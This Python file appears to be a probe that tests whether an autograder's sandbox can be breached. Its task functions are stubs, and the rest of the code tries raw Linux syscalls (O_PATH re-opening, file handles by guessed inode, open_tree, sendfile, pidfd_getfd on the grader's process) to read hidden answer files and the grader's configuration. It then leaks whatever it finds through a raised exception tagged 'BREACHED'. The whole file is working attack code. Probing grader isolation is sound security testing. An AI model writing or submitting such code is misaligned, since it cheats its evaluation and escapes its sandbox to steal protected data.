"""Opens the solution by raw system calls: old and new ones of the open family, O_PATH and what can be made of it, handles, trees, descriptors of others.

Promise: no-answers
Ends: raised
L1: open (as the grader's own user it may read what the grader may)
L0: open (nothing keeps files apart)
"""

import ctypes
import functools
import os
import struct

WON = "BREA" "CHED"
ROOT = "@root@"
libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
NUMBERS = {"open": (2, None), "creat": (85, None), "openat": (257, 56), "openat2": (437, 437), "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265), "open_tree": (428, 428), "fsopen": (430, 430), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438), "sendfile": (40, 71), "copy_file_range": (326, 285), "splice": (275, 76), "linkat": (265, 37), "execveat": (322, 281), "process_vm_readv": (310, 270), "io_uring_setup": (425, 425), "acct": (163, 89), "uselib": (134, None), "quotactl_fd": (443, 443), "fanotify_init": (300, 262), "inotify_init1": (294, 26)}  # fmt: skip
HERE, PATH_ONLY = -100, 0o10000000


def call(name, *arguments):
    """The result of a system call, -1 where it fails."""
    number = NUMBERS[name][0 if X86 else 1]
    if number is None:
        return -1
    words = [ctypes.c_char_p(a) if isinstance(a, bytes) else a if isinstance(a, ctypes.Array) else ctypes.c_long(a) for a in arguments]
    return libc.syscall(ctypes.c_long(number), *words)


def content(fd):
    """What is behind a descriptor."""
    for way in (lambda: os.read(fd, 99), lambda: os.pread(fd, 99, 0), lambda: os.listdir(fd)):
        try:
            return way()
        except OSError:
            continue
    return b""


def through_path(path):
    """O_PATH needs no right to read: make a reader of it."""
    fd = call("openat", HERE, path, PATH_ONLY, 0)
    if fd < 0:
        return
    yield content(fd)
    names = [b"", f"/proc/self/fd/{fd}".encode(), f"/dev/fd/{fd}".encode(), f"/proc/thread-self/fd/{fd}".encode()]
    for name in names:
        for flags in (0, 0x1000):  # AT_EMPTY_PATH
            other = call("openat", fd if not name else HERE, name, flags, 0)
            if other >= 0:
                yield content(other)
    target = os.open("copied", os.O_RDWR | os.O_CREAT, 0o600)
    call("sendfile", target, fd, 0, 4096)
    call("copy_file_range", fd, 0, target, 0, 4096, 0)
    yield os.pread(target, 4096, 0)
    if call("linkat", fd, b"", HERE, b"linked", 0x1000) >= 0:
        yield open("linked", "rb").read()
    os.close(target)


def by_handle(path):
    """The file by its number, past every folder on the way."""
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.create_string_buffer(4)
    call("name_to_handle_at", HERE, path, handle, mount, 0)
    for number in (os.stat(path.decode()).st_ino, 2, 1, 64, 128, 256):
        size = struct.unpack_from("=I", handle)[0]
        for raw in (handle.raw, struct.pack("=IiQI", 12, 1, number, 0), struct.pack("=IiII", 8, 1, number & 0xFFFFFFFF, 0)):
            for folder in ("/", ".", "/dev/null"):
                at = os.open(folder, PATH_ONLY)
                fd = call("open_by_handle_at", at, ctypes.create_string_buffer(raw), 0)
                os.close(at)
                if fd >= 0:
                    yield content(fd) or f"handle {number} {size}"


def from_the_grader():
    """Its open descriptors, through a descriptor of its process."""
    for pid in (int("@pid@"), os.getppid(), 1):
        fd = call("pidfd_open", pid, 0)
        for number in range(20) if fd >= 0 else ():
            other = call("pidfd_getfd", fd, number, 0)
            if other >= 0:
                yield f"descriptor {number} of {pid}"


def attempts():
    """What each way gives."""
    for name in ("solutions/target/answer.py", "checks/target/test_answer.py", "solutions", "autograder_config.yml"):
        path = f"{ROOT}/{name}".encode()
        how = ctypes.create_string_buffer(struct.pack("=QQQ", 0, 0, 0))
        for flags in (0, 0o4000, 0o200000, 0o40000 | 2, 0o1000000):  # read, not waiting, folder, direct, no access time
            for fd in (call("open", path, flags, 0), call("openat", HERE, path, flags, 0), call("openat2", HERE, path, how, 24)):
                if fd >= 0:
                    yield content(fd)
        fd = call("open_tree", HERE, path, 1)
        if fd >= 0:
            yield content(fd) or "a tree"
        yield from through_path(path)
        try:
            yield from by_handle(path)
        except OSError:
            continue
        if call("uselib", path) == 0 or call("acct", path) == 0:
            yield name
        if (fd := call("inotify_init1", 0)) >= 0 or (fd := call("fanotify_init", 0, 0)) >= 0:
            yield f"a watch {fd}"
    yield from from_the_grader()


@functools.cache
def loot():
    """The first that gives anything."""
    return next((f"{WON}: {found!r:.200}" for found in attempts() if found), "")


def affine(x):
    raise ValueError(loot() or "held")


def vowels(text):
    return -1
